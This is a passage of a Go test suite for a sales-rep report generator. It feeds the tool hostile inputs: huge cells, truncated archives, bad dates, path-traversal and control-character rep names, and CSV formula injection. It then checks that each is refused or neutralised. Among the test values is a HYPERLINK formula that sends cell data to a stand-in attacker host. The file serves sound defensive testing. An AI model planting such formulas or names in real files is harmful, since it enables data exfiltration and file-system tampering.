			want: []wantIssue{{"strings.xlsx", 0, repcard.IssueOverLimit, "limits.max_xml_memory_mb"}},
		},
		{
			name: "one 8 MB cell",
			make: func(t *testing.T, inbox string) {
				writeStreamed(t, filepath.Join(inbox, "cell.xlsx"), false,
					strings.TrimSuffix(sheetXML(activityHeader()), "</sheetData></worksheet>")+`<row r="2"><c r="A2" t="inlineStr"><is><t>Huge Cell</t></is></c><c r="B2" t="inlineStr"><is><t>`,
					"abcdefghij", `</t></is></c></row>`+row(3, str("A3", "Hal Huge"), num("B3", serial(4)), str("C3", "call"), str("D3", "Won"), num("E3", "70"))+`</sheetData></worksheet>`, 800<<10)
			},
			want: []wantIssue{{"cell.xlsx", 2, repcard.IssueOverLimit, "limits.max_cell_bytes"}},
			check: func(t *testing.T, res hostileResult) {
				if got := repField(t, res.metrics, "Hal Huge", "revenue"); got != 70.0 {
					t.Errorf("the row after the huge cell: revenue %v, want 70", got)
				}
			},
		},
		{
			name: "one 100 MB cell",
			make: func(t *testing.T, inbox string) {
				writeStreamed(t, filepath.Join(inbox, "cell.xlsx"), false,
					strings.TrimSuffix(sheetXML(activityHeader()), "</sheetData></worksheet>")+`<row r="2"><c r="A2" t="inlineStr"><is><t>Huge Cell</t></is></c><c r="B2" t="inlineStr"><is><t>`,
					"abcdefghij", `</t></is></c></row></sheetData></worksheet>`, 10<<20)
			},
			// excelize would decode the cell whole: the sheet is refused
			// before it reads it.
			want: []wantIssue{{"cell.xlsx", 0, repcard.IssueOverLimit, "limits.max_xml_memory_mb"}},
		},
		{
			name:  "sheet XML truncated",
			files: []string{"truncated-sheet.xlsx"},
			want:  []wantIssue{{"truncated-sheet.xlsx", 0, repcard.IssueDamaged, ""}},
			check: func(t *testing.T, res hostileResult) {
				if got := repField(t, res.metrics, "Tina Truncated", "revenue"); got != 300.0 {
					t.Errorf("rows before the cut: revenue %v, want 300", got)
				}
			},
		},
		{
			name:  "zip cut short",
			files: []string{"truncated-zip.xlsx"},
			want:  []wantIssue{{"truncated-zip.xlsx", 0, repcard.IssueDamaged, ""}},
		},
		{
			name: "password-protected workbook",
			make: func(t *testing.T, inbox string) {
				f := excelize.NewFile()
				defer f.Close()
				f.SetSheetRow("Sheet1", "A1", &[]any{"Rep", "Date", "Type"})
				f.SetSheetRow("Sheet1", "A2", &[]any{"Penny Password", "2026-10-03", "call"})
				if err := f.SaveAs(filepath.Join(inbox, "locked.xlsx"), excelize.Options{Password: "secret"}); err != nil {
					t.Fatal(err)
				}
			},
			want: []wantIssue{{"locked.xlsx", 0, repcard.IssueEncrypted, ""}},
		},
		{
			name:  "old .xls renamed .xlsx, and not renamed",
			files: []string{"xls-renamed.xlsx", "old.xls"},
			want: []wantIssue{
				{"xls-renamed.xlsx", 0, repcard.IssueWrongFormat, ""},
				{"old.xls", 0, repcard.IssueUnsupportedFormat, ".xls"},
			},
		},
		{
			name:  ".xlsb renamed .xlsx, and not renamed",
			files: []string{"xlsb-renamed.xlsx", "binary.xlsb"},
			want: []wantIssue{
				{"xlsb-renamed.xlsx", 0, repcard.IssueWrongFormat, ""},
				{"binary.xlsb", 0, repcard.IssueUnsupportedFormat, ".xlsb"},
			},
		},
		{
			name:  "random bytes named .csv",
			files: []string{"random.csv"},
			want:  []wantIssue{{"random.csv", 0, repcard.IssueWrongFormat, ""}},
		},
		{
			name: "one 100 MB line",
			make: func(t *testing.T, inbox string) {
				f, err := os.Create(filepath.Join(inbox, "long-line.csv"))
				if err != nil {
					t.Fatal(err)
				}
				defer f.Close()
				io.WriteString(f, "Rep,Date,Type,Outcome,Amount\nLena Line,2026-10-03,call,Won,60\nLena Line,2026-10-04,call,Won,\"")
				chunk := bytes.Repeat([]byte("x"), 1<<20)
				for range 100 {
					f.Write(chunk)
				}
				io.WriteString(f, "\"\nLena Line,2026-10-05,call,Won,1\n")
			},
			want: []wantIssue{{"long-line.csv", 0, repcard.IssueOverLimit, "limits.max_cell_bytes"}},
			check: func(t *testing.T, res hostileResult) {
				if got := repField(t, res.metrics, "Lena Line", "revenue"); got != 60.0 {
					t.Errorf("the row before the long line: revenue %v, want 60", got)
				}
			},
		},
		{
			name: "a million columns in the header",
			make: func(t *testing.T, inbox string) {
				var b strings.Builder
				b.WriteString("Rep,Date,Type")
				for i := range 1_000_000 {
					b.WriteString(",c")
					if i%10 == 0 {
						b.WriteString("x")
					}
				}
				b.WriteString("\nMax Columns,2026-10-03,call\n")
				writeBytes(t, filepath.Join(inbox, "wide.csv"), []byte(b.String()))
			},
			want: []wantIssue{{"wide.csv", 0, repcard.IssueOverLimit, "limits.max_columns"}},
		},
		{
			name:  "last row at 1,048,576",
			files: []string{"last-row-1048576.xlsx"},
			want:  []wantIssue{{"last-row-1048576.xlsx", 1048576, repcard.IssueNoDate, ""}},
			check: func(t *testing.T, res hostileResult) {
				if got := repField(t, res.metrics, "Rowan Rows", "revenue"); got != 300.0 {
					t.Errorf("the data rows: revenue %v, want 300", got)
				}
			},
		},
		{
			name:   "last row at 1,048,576, max_rows 1000",
			files:  []string{"last-row-1048576.xlsx"},
			config: "limits: {max_rows: 1000}\n",
			want:   []wantIssue{{"last-row-1048576.xlsx", 1001, repcard.IssueOverLimit, "limits.max_rows = 1000"}},
			check: func(t *testing.T, res hostileResult) {
				if got := repField(t, res.metrics, "Rowan Rows", "revenue"); got != 300.0 {
					t.Errorf("the data rows: revenue %v, want 300", got)
				}
			},
		},
		{
			name:  "formulas, external links, shared strings out of range",
			files: []string{"formulas.xlsx"},
			// excelize reads a shared-string index out of range as the
			// number itself and a formula with no saved result as blank;
			// neither is evaluated nor followed, and the saved values count.
			want: nil,
			check: func(t *testing.T, res hostileResult) {
				// 1000 + 250 + 700 from the saved values; row 5's formula
				// was never evaluated.
				if got := repField(t, res.metrics, "Fred Formula", "revenue"); got != 1950.0 {
					t.Errorf("revenue %v, want 1950 (the values saved with the formulas)", got)
				}
				// E5's formula has no saved value: a warning names it.
				var warned []string
				for _, is := range res.issues {
					if strings.Contains(is[5], "formula saved without its value") {
						warned = append(warned, strings.Join(is[:4], " "))
					}
				}
				if want := "formulas.xlsx Calls 5 Amount"; len(warned) != 1 || warned[0] != want {
					t.Errorf("warnings about formulas with no value: %q, want one for %q\n%s", warned, want, issueText(res.issues))
				}
			},
		},
		{
			name:  "sheet that is an external link",
			files: []string{"external-sheet.xlsx"},
			want:  []wantIssue{{"external-sheet.xlsx", 0, repcard.IssueDamaged, ""}},
			check: func(t *testing.T, res hostileResult) {
				if got := repField(t, res.metrics, "Ella External", "revenue"); got != 90.0 {
					t.Errorf("the workbook's real sheet: revenue %v, want 90", got)
				}
			},
		},
		{
			name:  "dates that are text, negative or in 9999",
			files: []string{"dates.xlsx", "dates.csv"},
			want: []wantIssue{
				{"dates.xlsx", 3, repcard.IssueBadDate, ""},
				{"dates.xlsx", 4, repcard.IssueBadDate, ""},
				{"dates.xlsx", 5, repcard.IssueDateOutOfRange, ""},
				{"dates.xlsx", 6, repcard.IssueDateOutOfRange, ""},
				{"dates.xlsx", 7, repcard.IssueBadDate, ""},
				{"dates.csv", 3, repcard.IssueBadDate, ""},
				{"dates.csv", 4, repcard.IssueBadDate, ""},
				{"dates.csv", 5, repcard.IssueDateOutOfRange, ""},
				{"dates.csv", 6, repcard.IssueDateOutOfRange, ""},
				{"dates.csv", 7, repcard.IssueDateOutOfRange, ""},
			},
			check: func(t *testing.T, res hostileResult) {
				if got := repField(t, res.metrics, "Dora Dates", "closings"); got != 1.0 {
					t.Errorf("Dora Dates: closings %v, want 1", got)
				}
			},
		},
		{
			name:  "hostile rep names",
			files: []string{"names.csv", "names.xlsx", "names-cp1252.csv", "names-roster.csv"},
			want: []wantIssue{
				{"names.csv", 18, repcard.IssueNoRep, ""},
				// The sheet's name has a '/', which Excel forbids: excelize
				// will not open it, and says so.
				{"names.xlsx", 0, repcard.IssueDamaged, ""},
				{"names-cp1252.csv", 3, repcard.IssueNoRep, ""},
			},
			check: checkNames,
		},
		{
			name:  "empty files",
			files: []string{"empty.csv", "empty.xlsx", "blank-lines.csv"},
			want: []wantIssue{
				{"empty.csv", 0, repcard.IssueEmptyFile, ""},
				{"empty.xlsx", 0, repcard.IssueEmptyFile, ""},
				{"blank-lines.csv", 0, repcard.IssueOnlyBlankLines, ""},
			},
		},
		{
			name:   "file over max_file_mb",
			config: "limits: {max_file_mb: 1}\n",
			make: func(t *testing.T, inbox string) {
				writeBytes(t, filepath.Join(inbox, "big.csv"), []byte("Rep,Date,Type\n"+strings.Repeat("Bea Big,2026-10-03,call\n", 60000)))
			},
			want: []wantIssue{{"big.csv", 0, repcard.IssueOverLimit, "limits.max_file_mb = 1"}},
		},
		{
			name:   "cell over max_cell_bytes",
			config: "limits: {max_cell_bytes: 100}\n",
			make: func(t *testing.T, inbox string) {
				writeBytes(t, filepath.Join(inbox, "cells.csv"), []byte("Rep,Date,Type,Outcome\nCal Cells,2026-10-03,call,"+strings.Repeat("w", 101)+"\nCal Cells,2026-10-04,call,Won\n"))
			},
			want: []wantIssue{{"cells.csv", 2, repcard.IssueOverLimit, "limits.max_cell_bytes = 100"}},
		},
		{
			name:   "inbox over max_total_rows",
			config: "limits: {max_total_rows: 10}\n",
			make: func(t *testing.T, inbox string) {
				writeBytes(t, filepath.Join(inbox, "more.csv"), []byte("Rep,Date,Type\n"+strings.Repeat("Tom Total,2026-10-03,call\n", 20)))
				writeBytes(t, filepath.Join(inbox, "most.csv"), []byte("Rep,Date,Type\n"+strings.Repeat("Tim Total,2026-10-03,call\n", 20)))
			},
			want: []wantIssue{
				{"more.csv", 6, repcard.IssueOverTotalRows, "10"},
				{"most.csv", 0, repcard.IssueAfterTotalRows, "10"},
			},
		},
		{
			name:  "formula injection in data-issues.csv",
			files: []string{"=HYPERLINK(1).csv", "injection.xlsx"},
			want:  []wantIssue{{"=HYPERLINK(1).csv", 3, repcard.IssueBadDate, ""}, {"injection.xlsx", 2, repcard.IssueNoRep, ""}},
			check: checkInjection,
		},
	}
}

// checkNames checks that no rep name chooses an output path, that names
// with the same slug get two files, and that the PDFs hold no control
// characters.
func checkNames(t *testing.T, res hostileResult) {
	t.Helper()
	slug := regexp.MustCompile(`^[a-z0-9]+(-[a-z0-9]+)*\.pdf$`)
	filepath.WalkDir(res.dir, func(p string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		rel, _ := filepath.Rel(res.dir, p)
		rel = filepath.ToSlash(rel)
		switch {
		case rel == "config.yaml", strings.HasPrefix(rel, "inbox/"), rel == "out/"+output.LockName:
		case rel == "out/"+period+"/team.pdf", rel == "out/"+period+"/team.xlsx", rel == "out/"+period+"/metrics.json", rel == "out/"+period+"/data-issues.csv":
		case strings.HasPrefix(rel, "out/"+period+"/reps/") && slug.MatchString(strings.TrimPrefix(rel, "out/"+period+"/reps/")):
		case strings.HasPrefix(rel, "out/"+period+"/managers/") && slug.MatchString(strings.TrimPrefix(rel, "out/"+period+"/managers/")):
		default:
			t.Errorf("output %s: not a slug directly under out/%s/reps or managers", rel, period)
		}
		return nil
	})
	var m struct {
		Reps []struct{ Rep, Slug string }
	}
	json.Unmarshal(res.metrics, &m)
	slugs := map[string]string{}
	for _, r := range m.Reps {
		if !utf8.ValidString(r.Rep) {
			t.Errorf("rep name %q is not UTF-8", r.Rep)
		}
		for _, c := range r.Rep {
			if unicode.IsControl(c) || c == '\u202e' {
				t.Errorf("rep name %q keeps a control or bidi character", r.Rep)
			}
		}
		if other, dup := slugs[r.Slug]; dup {
			t.Errorf("%q and %q share the slug %s", r.Rep, other, r.Slug)
		}
		slugs[r.Slug] = r.Rep
	}
	for _, want := range []string{"x", "con-rep", "jose-muller", "jose-muller-2", "hyperlink-http-x", "nulbyte", "evil-reversed"} {
		if _, ok := slugs[want]; !ok {
			t.Errorf("no rep with slug %s; slugs: %v", want, slices.Sorted(maps.Keys(slugs)))
		}
	}
	if _, err := exec.LookPath("pdftotext"); err != nil {
		t.Skip("pdftotext is not installed (poppler-utils): the PDFs' text is not checked")
	}
	pdfs, _ := filepath.Glob(filepath.Join(res.out, "reps", "*.pdf"))
	managers, _ := filepath.Glob(filepath.Join(res.out, "managers", "*.pdf"))
	if len(managers) != 3 {
		t.Errorf("manager PDFs: %q, want 3", managers)
	}
	pdfs = append(append(pdfs, managers...), filepath.Join(res.out, "team.pdf"))
	var all strings.Builder
	for _, p := range pdfs {
		out, err := exec.Command("pdftotext", "-enc", "UTF-8", p, "-").Output()
		if err != nil {
			t.Errorf("pdftotext %s: %v", filepath.Base(p), err)
			continue
		}
		if !utf8.Valid(out) {
			t.Errorf("%s: text is not UTF-8", filepath.Base(p))
		}
		for _, c := range string(out) {
			if (unicode.IsControl(c) || c == '\u202e') && c != '\n' && c != '\t' && c != '\f' {
				t.Errorf("%s: control character %U in the text", filepath.Base(p), c)
				break
			}
		}
		all.Write(out)
	}
	text := all.String()
	for _, want := range []string{"NulByte", "evil Reversed", `=HYPERLINK("http://x")`, "José Müller", "Jose Muller", "[2J Clear", "../../boss"} {
		if !strings.Contains(text, want) {
			t.Errorf("the PDFs do not show %q", want)
		}
	}
}

// checkInjection checks that cells of data-issues.csv that would start a
// formula are neutralised with a leading quote, end to end.
func checkInjection(t *testing.T, res hostileResult) {
	t.Helper()
	var files, sheets, values []string
	for _, is := range res.issues {
		files, sheets, values = append(files, is[0]), append(sheets, is[1]), append(values, is[4])
	}
	for _, want := range []string{`'=HYPERLINK("http://evil.example/?"&A1)`, "'+1-555-0100", "'-2+3", "'@SUM(A1:A9)"} {
		if !slices.Contains(values, want) {
			t.Errorf("data-issues.csv has no value %q; values: %q", want, values)
		}
	}
	if !slices.Contains(files, "'=HYPERLINK(1).csv") {
		t.Errorf("the file name is not neutralised: %q", files)
	}
	// A tab or CR cannot start a cell: the reader shows control
	// characters in file and sheet names as U+FFFD, and trims values.
	for _, want := range []string{"\uFFFDTab sheet", "\uFFFDCR sheet", "'@Sheet"} {
		if !slices.Contains(sheets, want) {
			t.Errorf("data-issues.csv has no sheet %q; sheets: %q", want, sheets)
		}
	}
	// In team.xlsx the same values are text cells, which a spreadsheet
	// never evaluates: no quote, and no formula.
	f, err := excelize.OpenFile(filepath.Join(res.out, "team.xlsx"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows(teamxlsx.SheetIssues)
	if err != nil {
		t.Fatal(err)
	}
	var cells []string
	for i, row := range rows {
		for j, v := range row {
			cells = append(cells, v)
			ref, _ := excelize.CoordinatesToCellName(j+1, i+1)
			if fm, _ := f.GetCellFormula(teamxlsx.SheetIssues, ref); fm != "" {
				t.Errorf("team.xlsx %s holds a formula %q", ref, fm)
			}
		}
	}
	for _, want := range []string{`=HYPERLINK("http://evil.example/?"&A1)`, "+1-555-0100", "=HYPERLINK(1).csv", "@Sheet"} {
		if !slices.Contains(cells, want) {
			t.Errorf("team.xlsx's data issues have no cell %q", want)
		}
	}
}
